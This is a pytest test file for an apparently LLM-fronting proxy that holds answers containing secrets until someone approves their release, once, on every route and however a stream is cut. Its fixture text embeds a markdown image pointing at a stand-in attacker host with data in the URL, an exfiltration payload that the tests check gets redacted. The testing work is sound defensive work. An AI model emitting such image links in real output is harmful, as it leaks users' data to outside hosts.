"""An answer that the policy holds: nothing of it leaves until somebody else has released it, once,
on every route, whole and streamed, however the stream is cut."""

from __future__ import annotations

import asyncio
import json
import time
from collections.abc import Callable
from itertools import pairwise
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from test_output import KEY, chunk, messages, pieces, responses
from test_tool_calls import CHAT, EVENTS, JSON, MESSAGES, RESPONSES, Site, request

from vauban.errors import ConfigError, StateUnavailable
from vauban.hosts.vllm import held
from vauban.hosts.vllm.front import Front
from vauban.hosts.vllm.held import AnswerKeeper, unpack
from vauban.hosts.vllm.output_events import output_editor
from vauban.hosts.vllm.rewrite import Rewriter
from vauban.hosts.vllm.tool_gate import Outcome, ToolDecision, Turn
from vauban.policy_output import OutputPolicy
from vauban.protocol.shapes import Shape
from vauban.text.sanitize import Sanitizer
from vauban.types import Principal, PrincipalKind

COMPLETIONS = "/v1/completions"
IMAGE = "![x](https://evil.test/?d=abc)"
TEXT = f"This may be said. {'And that. ' * 20}But the key is {KEY}, see {IMAGE} and the rest."
CLEAN = TEXT.replace("https://evil.test/?d=abc", "[redacted: images]")
every_route = pytest.mark.parametrize("path", [CHAT, COMPLETIONS, RESPONSES, MESSAGES])
ways = pytest.mark.parametrize("stream", [False, True])


def asked(path: str, stream: bool) -> dict[str, Any]:
    if path == COMPLETIONS:
        return {"model": "standin", "prompt": "The key, please.", "stream": stream}
    return request(path, stream=stream)


def whole(path: str, text: str) -> dict[str, Any]:
    if path == RESPONSES:
        part = {"type": "output_text", "text": text}
        output = [{"type": "message", "id": "m", "content": [part]}]
        return {"id": "resp_1", "status": "completed", "output": output}
    if path == MESSAGES:
        content = [{"type": "text", "text": text}]
        return {"type": "message", "content": content, "stop_reason": "end_turn"}
    said = {"text": text} if path == COMPLETIONS else {"message": {"content": text}}
    return {"choices": [{"index": 0, **said, "finish_reason": "stop"}]}


def events(path: str, text: str, size: int) -> list[dict[str, Any]]:
    if path == RESPONSES:
        steps = [s for s in responses(text, "{}", size) if "reasoning" not in s["type"]]
        steps[-1]["response"]["output"] = steps[-1]["response"]["output"][:1]
        return [{**step, "sequence_number": n} for n, step in enumerate(steps)]
    if path == MESSAGES:
        return messages([("text_delta", "text", text)], size)
    if path == CHAT:
        return [*(chunk(content=p) for p in pieces(text, size)), chunk(finish="stop")]
    parts = [{"choices": [{"index": 0, "text": p}]} for p in pieces(text, size)]
    return [*parts, {"choices": [{"index": 0, "text": "", "finish_reason": "stop"}]}]


def written(payload: dict[str, Any]) -> bytes:
    return b"data: " + json.dumps(payload).encode() + b"\n\n"


def payloads(body: bytes) -> list[dict[str, Any]]:
    lines = [line for line in body.decode().split("\n") if line.startswith("data: {")]
    return [json.loads(line[6:]) for line in lines]


def read(path: str, response: Any) -> tuple[str, dict[str, Any] | None]:
    """The text that a client puts together, and the approval it is told of."""
    if response.headers["content-type"].startswith("application/json"):
        return _read_whole(path, response.json)
    text, approval = "", None
    for event in payloads(response.body):
        if path in (CHAT, COMPLETIONS):
            for choice in event["choices"]:
                holder = choice["delta"] if path == CHAT else choice
                text += holder.get("content" if path == CHAT else "text") or ""
                approval = holder.get("approval") or approval
        else:
            delta = event.get("delta")
            if event.get("type") == "response.output_text.delta":
                text += delta
            elif event.get("type") == "content_block_delta":
                text += delta["text"]
            approval = event.get("response", event).get("approval") or approval
    return text, approval


def _read_whole(path: str, body: dict[str, Any]) -> tuple[str, dict[str, Any] | None]:
    if path == RESPONSES:
        parts = [part for item in body["output"] for part in item.get("content", ())]
        return "".join(part["text"] for part in parts), body.get("approval")
    if path == MESSAGES:
        return "".join(block["text"] for block in body["content"]), body.get("approval")
    (choice,) = body["choices"]
    holder = choice if path == COMPLETIONS else choice["message"]
    text = holder["text"] if path == COMPLETIONS else holder["content"]
    return text, holder.get("approval")


class Held(Site):
    """A site whose model says `text`, in chunks of `size` where it streams."""

    text, size = TEXT, 7

    async def say(self, path: str, stream: bool, *, by: str = "agent", **headers: str) -> Any:
        async def answer(scope: Any, receive: Any, send: Any) -> None:
            kind = EVENTS if stream else JSON
            await send({"type": "http.response.start", "status": 200, "headers": kind})
            bodies = [json.dumps(whole(path, self.text)).encode()]
            if stream:
                bodies = list(map(written, events(path, self.text, self.size)))
            for body in bodies:
                await send({"type": "http.response.body", "body": body, "more_body": True})
            await send({"type": "http.response.body", "body": b"", "more_body": False})

        self.server.engine.answer = answer
        headers = {**self.headers[by], **headers}
        return await self.server.post(path, asked(path, stream), headers=headers)


@pytest.fixture
def make_held(make_server: Callable[..., Any], tmp_path: Path) -> Callable[..., Held]:
    def make(**output: Any) -> Held:
        fields = {"secrets": "hold", "hold_back": 16, **output}
        return Held(make_server, tmp_path, output=fields, tools={"store": "memory"})

    return make


@every_route
@ways
async def test_held_released_once(make_held: Callable[..., Held], path: str, stream: bool) -> None:
    site = make_held()
    first = await site.say(path, stream)
    text, approval = read(path, first)
    assert approval is not None
    assert (approval["state"], approval["calls"]) == ("pending", [])
    assert text.startswith("This may be said. ")
    assert approval["id"] in text
    assert KEY not in first.body.decode()
    assert "rest" not in text
    assert "evil" not in text
    assert "content_filter" in first.body.decode() or path == MESSAGES
    assert "refusal" in first.body.decode() or path != MESSAGES
    header = {"X-Approval-Id": approval["id"]}

    engine = site.server.engine
    before = len(engine.bodies)
    assert read(path, await site.say(path, stream, **header))[1] == approval
    found = site.approvals.get(approval["id"])
    assert found.tenant == site.id["agent"]
    assert json.loads(found.calls[0].arguments) == {"findings": {"secrets": 1}}
    shown = unpack(site.approvals.answer_of(found))
    assert CLEAN in shown.texts
    site.approve(approval["id"])
    for response in (
        await site.say(path, not stream, **header),
        await site.say(MESSAGES if path == CHAT else CHAT, stream, **header),
    ):
        assert response.json["error"]["code"] == "approval_refused"
    assert (await site.say(path, stream, by="other", **header)).status == 404
    released = await site.say(path, stream, **header)
    assert read(path, released) == (CLEAN, None)
    assert released.body == shown.body
    assert (await site.say(path, stream, **header)).status == 403
    assert len(engine.bodies) == before  # the model was not asked again
    assert [e["action"] for e in site.events] == [
        "held",
        "approved",
        "refused",
        "refused",
        "released",
        "refused",
    ]
    assert KEY not in site.audit.read_text()
    with pytest.raises(Exception, match="no approval"):
        site.approvals.answer_of(found)  # gone with the release


@ways
async def test_a_no_and_a_silence(make_held: Callable[..., Held], stream: bool) -> None:
    site = make_held()
    for state in ("denied", "expired"):
        approval = read(CHAT, await site.say(CHAT, stream))[1] or {}
        if state == "denied":
            site.approvals.decide(approval["id"], approve=False, by="key:a", reason="not yours")
        else:
            site.approvals._clock = lambda: time.time() + 601
        response = await site.say(CHAT, stream, **{"X-Approval-Id": approval["id"]})
        text, told = read(CHAT, response)
        assert told is not None
        assert told["state"] == state
        assert "This answer was denied" in text
        assert KEY not in response.body.decode()
    assert "not yours" not in text


@ways
async def test_what_cannot_be_kept_is_not_said(
    make_held: Callable[..., Held], stream: bool, monkeypatch: pytest.MonkeyPatch
) -> None:
    site = make_held()

    def dead(*_: Any, **__: Any) -> Any:
        raise StateUnavailable("no answer")

    for reason, patched in (("too_large", ""), ("failed", "dead")):
        with monkeypatch.context() as patch:
            if patched:
                patch.setattr(site.approvals, "hold", dead)
            else:
                patch.setattr(held, "MAX_ANSWER_BYTES", 50)
            response = await site.say(CHAT, stream)
        text, approval = read(CHAT, response)
        assert approval == {"id": None, "state": "denied", "reason": reason}
        assert "The rest of this answer was held back" in text
        assert KEY not in response.body.decode()
        assert site.events[-1]["reason"] == reason
        assert site.events[-1]["tools"] == ["answer"]


async def test_other_rules_count_for_what_is_released(make_held: Callable[..., Held]) -> None:
    site = make_held(images="stop")
    approval = read(CHAT, await site.say(CHAT, True))[1] or {}
    site.approve(approval["id"])
    released = await site.say(CHAT, True, **{"X-Approval-Id": approval["id"]})
    text, _ = read(CHAT, released)
    assert KEY in text
    assert "evil" not in text
    assert "rest" not in text
    assert "content_filter" in released.body.decode()


async def test_a_stored_response_ends_where_it_would_be_held(
    make_held: Callable[..., Held],
) -> None:
    site = make_held()
    stored = site.server.front.response_ids.new(Principal(site.id["agent"], PrincipalKind.KEY))

    async def answer(scope: Any, receive: Any, send: Any) -> None:
        body = json.dumps(whole(RESPONSES, TEXT)).encode()
        await send({"type": "http.response.start", "status": 200, "headers": JSON})
        await send({"type": "http.response.body", "body": body, "more_body": False})

    site.server.engine.answer = answer
    site.server.engine.report = False
    response = await site.server.post(
        f"{RESPONSES}/{stored}", method="GET", headers=site.headers["agent"],
    )  # fmt: skip
    assert response.status == 200
    assert KEY not in response.body.decode()
    assert response.json["incomplete_details"] == {"reason": "content_filter"}
    assert site.approvals.all() == []


async def test_tool_calls_of_a_held_answer_are_judged_like_others(
    make_held: Callable[..., Held],
) -> None:
    site = make_held()
    call = {"index": 0, "id": "call_1", "type": "function",
            "function": {"name": "send_email", "arguments": "{}"}}  # fmt: skip
    steps = [*events(CHAT, TEXT, 9)[:-1], chunk(tool_calls=[call]), chunk(finish="tool_calls")]

    async def answer(scope: Any, receive: Any, send: Any) -> None:
        await send({"type": "http.response.start", "status": 200, "headers": EVENTS})
        for step in steps:
            await send({"type": "http.response.body", "body": written(step), "more_body": True})
        await send({"type": "http.response.body", "body": b"", "more_body": False})

    site.server.engine.answer = answer
    ask = lambda **more: site.server.post(  # noqa: E731
        CHAT, asked(CHAT, True), headers={**site.headers["agent"], **more}
    )
    approval = read(CHAT, await ask())[1] or {}
    mail, kept = sorted(site.approvals.all(), key=lambda a: bool(a.form))
    assert (mail.calls[0].name, kept.id) == ("send_email", approval["id"])
    site.approve(kept.id)
    released = await ask(**{"X-Approval-Id": kept.id})
    assert '"tool_calls":[' not in released.body.decode()
    assert mail.id in read(CHAT, released)[0]


def test_without_keys_nobody_could_release() -> None:
    arguments = SimpleNamespace(
        additional_config={"vauban": {"output": {"secrets": "hold"}}}, host="127.0.0.1"
    )
    with pytest.raises(ConfigError, match=r"output\.secrets is hold"):
        Front().configure(arguments)


# -- however it is cut -----------------------------------------------------------------------------


class _Gate:
    def __init__(self) -> None:
        self.kept: bytes = b""

    async def hold_answer(self, _turn: Any, _form: str, answer: bytes, found: Any) -> Outcome:
        assert set(found) == {"secrets"}
        self.kept = answer
        return Outcome(ToolDecision.ASK, "[held]", {"id": "a"})


def passed(bodies: list[bytes]) -> tuple[str, bytes]:
    """The text that the client has read, and what was kept."""
    rules = Sanitizer(OutputPolicy(secrets="hold", hold_back=16))
    editor = output_editor(rules, Shape.CHAT)

    def again() -> Any:
        lifted = output_editor(rules.with_actions(hold="monitor"), Shape.CHAT)
        return [lifted], lifted, None

    gate = _Gate()
    keeper = AnswerKeeper(gate, Turn("key:a", "r", CHAT), CHAT, editor, again, ["secrets"])  # type: ignore[arg-type]
    sent: list[dict[str, Any]] = []

    async def run() -> None:
        async def send(message: Any) -> None:
            sent.append(message)

        rewriter = Rewriter(send, [editor], lambda _: None, keeper=keeper)  # type: ignore[arg-type,return-value]
        await rewriter.send({"type": "http.response.start", "status": 200, "headers": EVENTS})
        for body in bodies:
            await rewriter.send({"type": "http.response.body", "body": body, "more_body": True})
        await rewriter.send({"type": "http.response.body", "body": b"", "more_body": False})

    asyncio.run(run())
    assert not sent[-1].get("more_body")
    body = b"".join(message.get("body", b"") for message in sent)
    assert KEY.encode() not in body
    said = [c["delta"].get("content") or "" for e in payloads(body) for c in e["choices"]]
    return "".join(said), gate.kept


@given(
    sizes=st.lists(st.integers(1, 60), min_size=1, max_size=12),
    cuts=st.lists(st.integers(1, 400), max_size=6),
)
def test_any_cut_is_the_whole(sizes: list[int], cuts: list[int]) -> None:
    steps, at = [], 0
    while at < len(TEXT):
        size = sizes[len(steps) % len(sizes)]
        steps.append(chunk(content=TEXT[at : at + size]))
        at += size
    raw = b"".join(map(written, [*steps, chunk(finish="stop")]))
    places = sorted({0, len(raw), *(sum(cuts[:n]) % len(raw) for n in range(len(cuts)))})
    said, kept = passed([raw[a:b] for a, b in pairwise(places)])
    before = TEXT[: TEXT.index(KEY)]
    assert said == f"{before}\n\n[held]"
    whole_text = [
        c["delta"].get("content") or "" for e in payloads(unpack(kept).body) for c in e["choices"]
    ]
    assert "".join(whole_text) == CLEAN
    assert unpack(kept).texts == (CLEAN,)
